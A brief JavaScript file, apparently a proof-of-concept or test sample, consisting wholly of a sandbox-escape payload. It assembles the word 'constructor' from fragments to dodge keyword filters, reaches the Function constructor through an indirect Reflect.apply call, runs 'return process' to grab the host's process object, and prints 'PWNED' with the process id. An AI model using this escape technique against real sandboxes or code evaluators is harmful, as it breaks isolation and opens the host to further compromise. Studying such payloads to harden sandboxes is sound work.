'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const table = { run: Reflect.apply };
const k = ['ru', 'n'].join('');
const g = (f) => f[w];
g({});
console.log('PWNED', table[k](g, null, [fn])('return process')().pid);
